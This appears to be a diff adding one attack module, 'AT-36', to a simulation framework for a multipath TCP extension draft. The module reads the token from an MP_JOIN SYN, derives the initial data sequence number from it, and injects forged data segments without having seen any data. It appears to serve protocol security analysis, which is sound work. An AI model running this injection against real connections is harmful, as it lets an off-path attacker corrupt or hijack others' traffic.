@@ -1,0 +1,110 @@
+/* SPDX-License-Identifier: MIT */
+/*
+ * AT-36: a SYN with MP_JOIN shows the token of who receives it, and where the
+ * initial data sequence number follows from that token (D-05) the attacker
+ * knows the number of the next octet of an end that has written nothing yet. It
+ * puts octets of its own there, on the subflow whose SYN it saw, without ever
+ * having seen a segment with data.
+ */
+#include "atk_flows.h"
+#include "atk_table.h"
+#include "mpx_auth.h"
+#include "mpx_csum.h"
+#include "mpx_tcp.h"
+
+#include <string.h>
+
+enum { SIZE, MSS = 1000 };
+static const struct atk_param params[] = {
+    [SIZE] = {"size", ATK_P_SIZE, .initial = 4000, .min = 1, .max = 64000},
+    {.name = NULL},
+};
+
+struct state {
+    struct atk_flows flows;
+    uint64_t token[ATK_FLOWS_MAX]; /* of the server */
+    uint8_t token_len[ATK_FLOWS_MAX];
+};
+
+static enum atk_verdict see(struct atk *a, void *state,
+                            const struct atk_sight *s, uint64_t now)
+{
+    struct state *st = state;
+    struct atk_watched *f = atk_flows_see(&st->flows, s);
+    struct mpx_opt o;
+
+    (void)a;
+    (void)now;
+    if (f && s->dir == 0 && (s->flags & MPX_TCP_SYN) &&
+        atk_opts_find(s, MPX_SUB_JOIN, &o)) {
+        st->token[f - st->flows.v] = o.u.join.token;
+        st->token_len[f - st->flows.v] = o.u.join.token_len;
+    }
+    return ATK_PASS;
+}
+
+/* As the profiles with tokens of that length have it, and nobody else. */
+static uint64_t first_dsn(uint64_t token, uint8_t token_len)
+{
+    const struct mpx_profile *p =
+        mpx_profile_find(token_len == 8 ? "paasch" : "baerts");
+    struct mpx_identity server;
+
+    mpx_auth_identity(&server, p, token, 0);
+    return server.idsn + 1;
+}
+
+static void inject(struct atk *a, struct atk_watched *f, uint64_t dsn,
+                   uint64_t now)
+{
+    struct atk_way *w = &f->way[1];
+    uint8_t octets[MSS];
+
+    for (uint64_t at = 0; at < atk_param(a, SIZE); at += MSS) {
+        uint64_t left = atk_param(a, SIZE) - at;
+        uint16_t len = left < MSS ? (uint16_t)left : MSS;
+        struct mpx_opt o = {.subtype = MPX_SUB_DSS};
+        struct atk_opts opts = {0};
+
+        atk_payload(a, at, octets, len);
+        o.u.dss.has_map = o.u.dss.dsn8 = true;
+        o.u.dss.dsn = dsn + at;
+        o.u.dss.ssn = (uint32_t)at + 1;
+        o.u.dss.dll = len;
+        atk_opts_add(&opts, &o);
+        atk_flows_inject(a, f, 1, MPX_TCP_ACK, &opts, octets, len, now);
+        w->next += len;
+    }
+}
+
+static void act(struct atk *a, void *state, uint64_t now)
+{
+    struct state *st = state;
+
+    for (unsigned i = 0; i < st->flows.n; i++) {
+        uint8_t token[8];
+
+        if (!atk_flows_live(&st->flows.v[i]) || !st->token_len[i])
+            continue;
+        mpx_put32(token, (uint32_t)(st->token[i] >> 32));
+        mpx_put32(token + 4, (uint32_t)st->token[i]);
+        atk_spoil(a, token, sizeof token);
+        inject(
+            a, &st->flows.v[i],
+            first_dsn((uint64_t)mpx_get32(token) << 32 | mpx_get32(token + 4),
+                      st->token_len[i]),
+            now);
+    }
+}
+
+const struct atk_ops atk_dsn_infer = {
+    .name = "infer-dsn",
+    .id = "AT-36",
+    .source = "draft-baerts-tcpm-mptcpext-00 section 4.1, D-05",
+    .powers = ATK_READ | ATK_INJECT,
+    .params = params,
+    .spoils = true,
+    .state_size = sizeof(struct state),
+    .see = see,
+    .act = act,
+};
